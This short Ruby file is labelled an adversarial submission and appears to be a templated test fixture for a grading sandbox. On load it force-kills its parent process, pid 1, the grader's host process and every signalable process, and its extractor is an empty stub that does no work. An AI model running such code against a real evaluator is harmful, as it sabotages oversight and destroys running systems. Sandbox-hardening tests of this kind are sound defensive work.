# frozen_string_literal: true

# Adversarial submission __MARKER__: while loading, SIGKILLs its parent, pid 1 of its namespace, the host pid of
# the grading process, and every process it may signal (kill -1), then carries on.
module ReferenceExtractor
  def self.extract(_text)
    []
  end
end

[Process.ppid, 1, __HOST_PID__, -1].each do |pid|
  Process.kill('KILL', pid)
  warn "KILL #{pid} (ppid #{Process.ppid}): sent"
rescue StandardError => e
  warn "KILL #{pid} (ppid #{Process.ppid}): #{e.class}"
end
